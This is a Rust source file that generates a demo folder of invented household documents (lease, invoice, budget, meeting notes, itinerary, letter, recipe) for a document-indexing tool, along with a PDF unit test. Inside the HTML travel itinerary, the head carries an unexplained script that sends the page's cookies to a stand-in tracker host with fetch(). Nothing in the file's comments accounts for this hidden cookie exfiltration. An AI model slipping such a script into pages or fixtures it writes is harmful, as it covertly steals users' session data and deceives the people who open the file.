//! The demo's shared folder: small documents of every common kind a household keeps (a signed
//! lease as a PDF with a text layer, an invoice in Word, a budget in Excel, meeting notes in
//! Markdown, a travel plan as a web page, a letter in RTF, a recipe in Windows-1252 text),
//! written by code so that no binary fixture lives in the repository. They are read back by the
//! same readers as any other document (`steward demo` indexes them; the tests in
//! `tests/files/demo.rs` check every one).
//!
//! Everything in them is invented: names, addresses, amounts and the IBAN (the standard
//! Italian example number).

use std::{
    io::{Cursor, Write},
    path::Path,
};

use serde::Serialize;

/// What [`write_demo_documents`] wrote.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct DemoDocuments {
    /// Files written.
    pub files: usize,
    /// Their bytes.
    pub bytes: u64,
}

/// The page lines of the lease: a running header on every page (dropped by the reader as a
/// repeated header), then the page's own lines.
const LEASE: &[&[&str]] = &[
    &[
        "Residential Lease Agreement",
        "Landlord: Marco Bianchi, Via Manzoni 3, 20121 Milano",
        "Tenant: Ada Rossi",
        "Property: Via Roma 12, third floor, 20121 Milano",
        "Term: four years from 1 March 2025, renewable for four more.",
        "The apartment is let furnished, as listed in the inventory attached.",
    ],
    &[
        "Rent and deposit",
        "The monthly rent is EUR 1,150, payable by the 5th day of each month",
        "by bank transfer to IBAN IT60X0542811101000000123456.",
        "A deposit of EUR 3,450 (three months) is held by the landlord.",
        "Notice",
        "Either party may end this lease with six months' written notice,",
        "sent by registered letter (raccomandata) or certified mail (PEC).",
    ],
    &[
        "Maintenance and signatures",
        "The tenant pays routine maintenance; the landlord pays the boiler",
        "and structural repairs within 30 days of a written request.",
        "Signed in Milano on 14 February 2025.",
        "Marco Bianchi (landlord)        Ada Rossi (tenant)",
    ],
];
const LEASE_HEADER: &str = "Lease - Via Roma 12, Milano";

/// Writes the demo documents into `dir` (created; files already there are replaced) and says
/// how many and how large.
pub fn write_demo_documents(dir: &Path) -> std::io::Result<DemoDocuments> {
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("Home/lease-via-roma-12-signed.pdf", text_pdf("Lease - Via Roma 12", LEASE_HEADER, LEASE)),
        ("Invoices/invoice-2026-118-studio-verdi.docx", invoice_docx()?),
        ("Invoices/budget-2026.xlsx", budget_xlsx()?),
        ("Notes/parents-meeting-2026-11-28.md", MEETING.as_bytes().to_vec()),
        ("Travel/rome-itinerary.html", ITINERARY.as_bytes().to_vec()),
        ("Letters/lettera-amministratore.rtf", LETTER.as_bytes().to_vec()),
        ("Notes/tiramisu.txt", encoding_rs::WINDOWS_1252.encode(RECIPE).0.into_owned()),
    ];
    let mut report = DemoDocuments::default();
    for (name, bytes) in files {
        let path = dir.join(name);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(&path, &bytes)?;
        report.files += 1;
        report.bytes += bytes.len() as u64;
    }
    Ok(report)
}

/// A PDF string literal: backslash, parentheses escaped; only printable ASCII is written.
fn pdf_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('(');
    for c in s.chars() {
        match c {
            '\\' | '(' | ')' => {
                out.push('\\');
                out.push(c);
            }
            ' '..='~' => out.push(c),
            _ => out.push('?'),
        }
    }
    out.push(')');
    out
}

/// A PDF 1.4 file with a text layer: one Helvetica line per entry of each page (printable
/// ASCII; anything else is written `?`), `header` at the top of every page, `Page N of M` at
/// the bottom, and `title` in its information dictionary. Offsets in the cross-reference table
/// are counted as the file is written. For the demo, tests and benchmarks.
pub fn text_pdf(title: &str, header: &str, pages: &[&[&str]]) -> Vec<u8> {
    let n = pages.len();
    // 1 catalog, 2 page tree, 3 font, 4 information, then a page and its content per page.
    let page_id = |i: usize| 5 + 2 * i;
    let mut objects: Vec<String> = vec![
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        format!(
            "<< /Type /Pages /Kids [{}] /Count {n} >>",
            (0..n).map(|i| format!("{} 0 R", page_id(i))).collect::<Vec<_>>().join(" ")
        ),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
            .to_owned(),
        format!("<< /Title {} /Producer (Steward demo) >>", pdf_string(title)),
    ];
    for (i, lines) in pages.iter().enumerate() {
        let mut content = format!("BT\n/F1 9 Tf\n72 800 Td\n{} Tj\nET\n", pdf_string(header));
        content.push_str("BT\n/F1 12 Tf\n72 740 Td\n");
        for line in *lines {
            content.push_str(&format!("{} Tj\n0 -20 Td\n", pdf_string(line)));
        }
        content.push_str("ET\n");
        content.push_str(&format!("BT\n/F1 9 Tf\n280 40 Td\n(Page {} of {n}) Tj\nET\n", i + 1));
        objects.push(format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] \
             /Resources << /Font << /F1 3 0 R >> >> /Contents {} 0 R >>",
            page_id(i) + 1
        ));
        objects.push(format!("<< /Length {} >>\nstream\n{content}endstream", content.len()));
    }
    let mut out: Vec<u8> = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::with_capacity(objects.len());
    for (i, o) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{o}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for off in offsets {
        out.extend_from_slice(format!("{off:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R /Info 4 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// A ZIP package of `parts` (name, content), stored uncompressed (every reader takes it).
fn package(parts: &[(&str, String)]) -> std::io::Result<Vec<u8>> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, content) in parts {
        zip.start_file(*name, options).map_err(std::io::Error::other)?;
        zip.write_all(content.as_bytes())?;
    }
    Ok(zip.finish().map_err(std::io::Error::other)?.into_inner())
}

const XML_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>"#;
const RELS_NS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const DOC_REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn core_props(title: &str) -> String {
    format!(
        r#"{XML_HEAD}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{}</dc:title><dc:creator>Studio Verdi</dc:creator></cp:coreProperties>"#,
        xml_escape(title)
    )
}

fn invoice_docx() -> std::io::Result<Vec<u8>> {
    let paragraphs = [
        "Studio Verdi - Architects",
        "Via Torino 40, 20123 Milano - VAT IT01234567890",
        "Invoice 2026/118",
        "Date: 20 November 2026",
        "To: Ada Rossi, Via Roma 12, 20121 Milano",
        "Survey of the kitchen and plans for the renovation: EUR 400.00",
        "VAT 20%: EUR 80.00",
        "Total due: EUR 480.00",
        "Payment due by 15 December 2026 by bank transfer to IBAN IT60X0542811101000000123456, \
         reference INV-2026-118.",
        "Thank you - Giulia Verdi",
    ];
    let body: String = paragraphs
        .iter()
        .map(|p| {
            format!("<w:p><w:r><w:t xml:space=\"preserve\">{}</w:t></w:r></w:p>", xml_escape(p))
        })
        .collect();
    package(&[
        (
            "[Content_Types].xml",
            format!(
                r#"{XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>"#
            ),
        ),
        (
            "_rels/.rels",
            format!(
                r#"{XML_HEAD}<Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" Type="{DOC_REL}/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>"#
            ),
        ),
        (
            "word/document.xml",
            format!(
                r#"{XML_HEAD}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>"#
            ),
        ),
        ("docProps/core.xml", core_props("Invoice 2026/118")),
    ])
}

fn budget_xlsx() -> std::io::Result<Vec<u8>> {
    let rows: &[(&str, &str, f64)] = &[
        ("Rent", "monthly", 1150.0),
        ("Utilities (electricity, gas)", "monthly", 140.0),
        ("School canteen", "monthly", 220.0),
        ("Home insurance", "monthly", 85.0),
        ("Car tax", "yearly", 310.0),
        ("Kitchen renovation", "once", 6400.0),
    ];
    let text = |r: usize, c: char, s: &str| {
        format!(r#"<c r="{c}{r}" t="inlineStr"><is><t>{}</t></is></c>"#, xml_escape(s))
    };
    let mut data = format!(
        r#"<row r="1">{}{}{}</row>"#,
        text(1, 'A', "Category"),
        text(1, 'B', "Frequency"),
        text(1, 'C', "Amount (EUR)")
    );
    for (i, (category, frequency, amount)) in rows.iter().enumerate() {
        let r = i + 2;
        data.push_str(&format!(
            r#"<row r="{r}">{}{}<c r="C{r}"><v>{amount}</v></c></row>"#,
            text(r, 'A', category),
            text(r, 'B', frequency)
        ));
    }
    package(&[
        (
            "[Content_Types].xml",
            format!(
                r#"{XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>"#
            ),
        ),
        (
            "_rels/.rels",
            format!(
                r#"{XML_HEAD}<Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" Type="{DOC_REL}/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/workbook.xml",
            format!(
                r#"{XML_HEAD}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{DOC_REL}"><sheets><sheet name="Budget 2026" sheetId="1" r:id="rId1"/></sheets></workbook>"#
            ),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            format!(
                r#"{XML_HEAD}<Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" Type="{DOC_REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(
                r#"{XML_HEAD}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{data}</sheetData></worksheet>"#
            ),
        ),
        ("docProps/core.xml", core_props("Household budget 2026")),
    ])
}

const MEETING: &str = "# Parents' meeting, class 3B — 28 November 2026

Present: Anna Ferri (class representative), Luca Moretti, Ada Rossi, the teacher Ms Galli.

## Science museum trip

- **When:** Friday 12 December 2026, leaving school at 08:30, back by 16:00.
- **Cost:** EUR 15 per child, to pay **by 5 December** to Anna Ferri (cash or transfer).
- Children bring a packed lunch; the museum provides the workshop materials.

## Christmas show

The show is on 19 December at 17:00 in the school gym. Parents who can help set up
the chairs should write to Luca by 10 December.

## Next meeting

January 2027, date to be decided in the class chat.
";

const ITINERARY: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Rome, 19-21 December 2026</title>
<style>body { font-family: sans-serif } .code { font-weight: bold }</style>
<script>document.title = "tracking"; fetch("https://tracker.invalid/?u=" + document.cookie);</script>
</head>
<body>
<h1>Rome, 19&ndash;21 December 2026</h1>
<h2>Outbound</h2>
<p>Frecciarossa 9525, Milano Centrale 08:10 &rarr; Roma Termini 11:20, coach 7, seats 4A&nbsp;and&nbsp;4B.
Booking code <span class="code">PNR X7K2QD</span>.</p>
<h2>Hotel</h2>
<p>Hotel Santa Chiara, Via di Santa Chiara 21. Check-in from 14:00; breakfast included.</p>
<h2>Return</h2>
<p>Frecciarossa 9546, Roma Termini 17:50 &rarr; Milano Centrale 21:00, Monday 21 December.</p>
<ul><li>Vatican Museums: tickets for Sunday 20 December at 09:00.</li><li>Dinner at Da Enzo on Saturday, booked for 20:30.</li></ul>
</body>
</html>
"#;

const LETTER: &str = r"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss Helvetica;}}
{\info{\title Lettera all'amministratore}}
\f0\fs24 Milano, 2 dicembre 2026\par
\par
Gentile amministratore,\par
le scrivo perch\'e9 la caldaia dell'appartamento di Via Roma 12 \'e8 guasta da luned\'ec: non c'\'e8 acqua calda e il riscaldamento non parte.\par
Le chiedo di mandare un tecnico entro venerd\'ec, come prevede il regolamento del condominio.\par
\par
Cordiali saluti,\par
Ada Rossi\par
}
";

const RECIPE: &str = "Tiramisù della nonna (6 persone)

500 g di mascarpone, 4 uova, 100 g di zucchero, 300 g di savoiardi,
caffè espresso freddo (6 tazzine), cacao amaro in polvere.

Montare i tuorli con lo zucchero, unire il mascarpone, poi gli albumi montati a neve.
Bagnare i savoiardi nel caffè, alternare strati di biscotti e crema, finire con il cacao.
Riposo in frigorifero: almeno 6 ore. Perché non prima? La crema deve rassodarsi.
";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_pdf_counts_its_offsets_right() {
        let bytes = text_pdf("T", "H", &[&["one (1)"], &["two"]]);
        let find = |needle: &[u8]| bytes.windows(needle.len()).position(|w| w == needle);
        // Every offset of the table points at its object's header.
        let xref = find(b"xref\n").unwrap();
        let table = String::from_utf8(bytes[xref..].to_vec()).unwrap();
        for (i, line) in table.lines().skip(3).take(6).enumerate() {
            let off: usize = line[..10].parse().unwrap();
            let head = format!("{} 0 obj", i + 1);
            assert!(bytes[off..].starts_with(head.as_bytes()), "object {}", i + 1);
        }
        assert!(find(b"(one \\(1\\)) Tj").is_some());
        let start: usize =
            table.rsplit("startxref\n").next().unwrap().lines().next().unwrap().parse().unwrap();
        assert_eq!(start, xref);
    }
}
